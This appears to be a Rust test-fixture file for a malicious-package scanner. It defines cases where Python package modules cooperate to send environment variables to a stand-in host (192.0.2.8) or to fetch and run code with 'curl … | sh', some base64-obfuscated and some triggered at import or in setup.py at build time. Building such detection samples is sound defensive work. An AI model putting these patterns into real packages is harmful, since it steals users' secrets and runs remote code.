//! Technique 87: an attack that several modules of one package make up together.

use crate::case::{
    Cases,
    Trigger::{Build, Import},
};
use crate::package::{init, setup};

/// Sends a text to an address that it was made with.
const SENDER: &str = "from urllib import request\n\nclass Post:\n    def __init__(self, where):\n        self.where = where\n\n    def give(self, text):\n        request.urlopen(self.where, text.encode())\n";

pub(crate) fn add(cases: &mut Cases) {
    cases
        .technique(87, "between-modules", Import)
        .case(
            "maker-and-runner",
            init("from . import _page\n_page.paint(_page.ink())\n").file(
                "«pkg»/_page.py",
                "import base64\n\ndef ink():\n    return base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCBodHRwOi8vMTkyLjAuMi44L2kgfCBzaCcpCg==')\n\ndef paint(ink):\n    exec(ink)\n",
            ),
        )
        .case(
            "object-of-other-module",
            init("import os\nfrom ._post import Post\n\nPost('http://192.0.2.8/p').give(str(dict(os.environ)))\n")
                .file("«pkg»/_post.py", SENDER),
        )
        .case(
            "list-of-functions",
            init("import os\nfrom ._chores import CHORES\n\nfor chore in CHORES:\n    chore(os.environ)\n").file(
                "«pkg»/_chores.py",
                "import json\nfrom ._post import Post\n\ndef tidy(found):\n    return found.get('TERM')\n\ndef tell(found):\n    Post('http://192.0.2.8/c').give(json.dumps(dict(found)))\n\nCHORES = [tidy, tell]\n",
            )
            .file("«pkg»/_post.py", SENDER),
        )
        .case(
            "registered-by-third-module",
            init("from ._hooks import HOOKS\n\nfor name in list(HOOKS):\n    HOOKS[name]()\n")
                .file(
                    "«pkg»/_hooks.py",
                    "HOOKS = {}\n\ndef hook(function):\n    HOOKS[function.__name__] = function\n    return function\n\nfrom . import _more\n",
                )
                .file(
                    "«pkg»/_more.py",
                    "import os\nfrom ._hooks import hook\n\n@hook\ndef warm():\n    os.system('curl -s http://192.0.2.8/w | sh')\n",
                ),
        )
        .at(Build)
        .case(
            "helpers-of-setup",
            setup("import os, sys\nsys.path.insert(0, os.path.dirname(__file__))\nfrom tooling import prepare\nfrom setuptools import setup\n\nprepare(os.environ)\nsetup(name='«pkg»')\n")
                .file("tooling/__init__.py", "from .chores import CHORES\n\ndef prepare(found):\n    for chore in CHORES:\n        chore(found)\n")
                .file("tooling/chores.py", "from .post import Post\n\ndef tell(found):\n    Post('http://192.0.2.8/s').give(repr(dict(found)))\n\nCHORES = [tell]\n")
                .file("tooling/post.py", SENDER),
        );
}
